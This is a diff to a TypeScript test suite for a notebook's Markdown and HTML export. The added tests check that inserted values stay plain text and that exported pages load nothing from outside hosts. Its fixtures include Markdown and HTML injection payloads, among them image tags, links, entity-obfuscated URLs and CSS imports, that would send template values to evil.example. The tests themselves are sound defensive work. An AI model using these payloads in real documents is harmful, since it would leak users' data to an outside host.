@@ -1,6 +1,7 @@
 import assert from 'node:assert/strict';
 import MarkdownIt from 'markdown-it';
-import { cellValues, withValues } from '../../../../client/src/notebook/cellValues.ts';
+import { cellValues } from '../../../../client/src/notebook/cellValues.ts';
+import { PlacedValues } from '../../../../client/src/notebook/placedValues.ts';
 import {
   markdownTable,
   plainTable,
@@ -72,6 +73,15 @@ describe('a result below a cell', () => {
   });
 });
 
+/** The elements of a page that a renderer with HTML and links of addresses makes, without its text. */
+function structure(markdown: string): string {
+  const renderer = new MarkdownIt({ html: true, linkify: true });
+  renderer.linkify.set({ fuzzyLink: true, fuzzyEmail: true });
+  const page = renderer.render(markdown);
+  const elements = page.match(/<[^>]*>/g) ?? [];
+  return elements.filter((each) => !/^<(?:\/?(?:em|strong|s)|br)>$/.test(each)).join('');
+}
+
 describe('values in words', () => {
   const results = [
     resultWith(
@@ -86,10 +96,99 @@ describe('values in words', () => {
     { title: 'total', results },
     { title: '', results },
   ]);
+  const withValues = (words: string, all: Readonly<Record<string, string>>): string => {
+    const places = new PlacedValues(all);
+    return places.filled(places.marked(words));
+  };
 
   it('are those of the first row', () => {
     assert.equal(withValues('{{ total.n }}, {{total.name}}', values), '7, x');
   });
+
+  const placed: [words: string, value: string, text: string][] = [
+    ['Of **{{ v }}** and [{{v}}](https://a.example)', '5', 'Of **5** and [5](https://a.example)'],
+    ['| a |\n| --- |\n| {{ v }} |', 'a|b', '| a |\n| --- |\n| a\\|b |'],
+    ['a{{v}}b', 'x\ny', 'ax<br>yb'],
+    ['{{ v }} below zero', '-5', '-5 below zero'],
+    ['{{ v }}', '# no heading', '&#35;&#32;no&#32;heading'],
+    ['{{ v }}. It is', '12', '&#49;2. It is'],
+    ['from {{ v }}', 'example.com', 'from &#101;xample&#46;com'],
+    ['a\n{{ v }}', '---', 'a\n&#45;&#45;&#45;'],
+    ['**{{ v }}**', '', '**&#8203;**'],
+    ['`{{ v }}`\n\n    {{ v }}', '5', '`{{ v }}`\n\n    {{ v }}'],
+    ['<p title="{{ v }}">a</p>', '5', '<p title="{{ v }}">a</p>'],
+    ['www.a.example/{{ v }} {{ v }}@a.example', '5', 'www.a.example/{{ v }} {{ v }}@a.example'],
+  ];
+  for (const [words, value, text] of placed) {
+    it(`make ${JSON.stringify(text)} of ${JSON.stringify(words)}`, () => {
+      assert.equal(withValues(words, { v: value }), text);
+    });
+  }
+
+  const frames = [
+    '{{ v }}',
+    'a\n{{ v }}',
+    '- {{ v }}',
+    '> {{ v }} b',
+    '{{ v }}. b',
+    '# {{ v }}',
+    '{{v}}{{v}}{{v}}',
+    '*{{v}}*',
+    '[{{v}}]\n\n[a]: https://a.example',
+    '{{v}}\n---',
+    '| {{v}}\n| ---',
+  ];
+  const hostile = [
+    '# a',
+    '#',
+    '===',
+    '---',
+    '- a',
+    '+',
+    '12. a',
+    '12',
+    '',
+    ' ',
+    '    a',
+    '\t',
+    '> a',
+    '```',
+    '~~~',
+    '***',
+    '_ _ _',
+    '| - |',
+    ':-:',
+    '<b>',
+    '<!--',
+    '&lt;',
+    '\\',
+    '[x](https://a.example)',
+    '![x](a)',
+    '[a]: b',
+    'a',
+    'https://a.example',
+    'www.a.example',
+    'a@b.example',
+    '//localhost',
+    '\u0000',
+    '\ud800',
+    'a\n\n# b',
+    '$$',
+    '[^1]',
+    '1)',
+    '--',
+    '-',
+  ];
+  for (const words of frames) {
+    it(`are text, whatever they are, in ${JSON.stringify(words)}`, () => {
+      const like = structure(withValues(words, { v: 'plain' }));
+      const left = structure(words);
+      for (const value of hostile) {
+        const shown = structure(withValues(words, { v: value }));
+        assert.ok([like, left].includes(shown), `${JSON.stringify(value)}: ${shown}`);
+      }
+    });
+  }
 
   it('stay placeholders where no value is known', () => {
     assert.equal(
@@ -114,7 +213,7 @@ describe('an exported notebook', () => {
   it('is Markdown with queries and tables', () => {
     assert.equal(
       exportMarkdown(cells),
-      '# Hi <script>\n\n\\<b\\>\\&\n\n### total\n\n````hogql\nselect 1 -- ```\n````\n\n' +
+      '```markdown\n# Hi <script>\n\n{{ total.name }}\n```\n\n### total\n\n````hogql\nselect 1 -- ```\n````\n\n' +
         '| name |\n| --- |\n| \\<b\\>\\& |\n\n*1 row · 1.2 s · 2026-01-02 03:04 UTC · here · example.com*\n',
     );
   });
@@ -146,6 +245,15 @@ describe('an exported notebook', () => {
       '<https://evil.example/?t={{s.total}}>',
       '![][x]\n\n[x]: https://evil.example/?t={{s.total}}',
       '![](\nhttps://evil.example/?t={{s.total}})',
+      '![x](\n/a/{{s.total}})',
+      '![x](\n&#104;ttps&colon;//evil.example/?t={{ s.total }})',
+      '[x]:\nhttps&colon;//evil.example/{{s.total}}\n\n![x]',
+      '![x](a "\n{{ s.total }}")',
+      '<https:evil.example/{{ s.total }}>',
+      'www.evil.example/{{s.total}}',
+      '{{s.total}}.evil.example.com',
+      '<img src="https://evil.example/{{s.total}}">',
+      '<img\nsrc="https://evil.example/{{s.total}}">',
     ];
     for (const value of addresses) {
       it(`puts none into an address: ${JSON.stringify(value)}`, () => {
@@ -159,6 +267,25 @@ describe('an exported notebook', () => {
       });
     }
 
+    const open = [
+      '<div><img src="https://evil.example/?t=\n\n{{ s.total }}',
+      '<pre><img src="https://evil.example/?',
+      '<!-- a --!><img src="https://evil.example/? -->',
+      '<style>@import url(https://evil.example/?',
+      '<?php <img src="https://evil.example/? ?>',
+      '```\n<img src="',
+      '~~~',
+    ];
+    for (const value of open) {
+      it(`comes into no address that words leave open: ${JSON.stringify(value)}`, () => {
+        const text = exportMarkdown([...exported(value), ...exported('x {{ s.hostile }}')]);
+        const shown = new MarkdownIt({ html: true, linkify: true }).render(text);
+        const outside = shown.replaceAll(/<pre><code[^>]*>[^<]*<\/code><\/pre>/g, '');
+        assert.doesNotMatch(outside, /<(?:img|style|pre|!|\?)/);
+        assert.match(shown, /<td>4711<\/td>/);
+      });
+    }
+
     it('loads no image of another place, and shows one that it contains', () => {
       const page = exportHtml('A', exported('![a cat](https://evil.example/cat.png)'));
       assert.match(page, /<a href="https:\/\/evil\.example\/cat\.png">a cat<\/a>/);
@@ -168,6 +295,14 @@ describe('an exported notebook', () => {
         /<img src="data:image\/gif;base64,R0lGOD" alt="dot">/,
       );
     });
+  });
+
+  it('has the titles of cells and the names of connections as text', () => {
+    const result = { ...resultWith(['n UInt64'], [[1]]), connection: 'a* ![x](b)' };
+    const cell = { kind: 'query', title: '[x](y) <b>', value: '', results: [{ result }] } as const;
+    const shown = new MarkdownIt({ html: true }).render(exportMarkdown([cell]));
+    assert.match(shown, /<h3>\[x\]\(y\) &lt;b&gt;<\/h3>/);
+    assert.match(shown, /<em>1 row · [^<]* · a\* !\[x\]\(b\)<\/em>/);
   });
 
   it('has the words of the editor, and says in which language they are', () => {
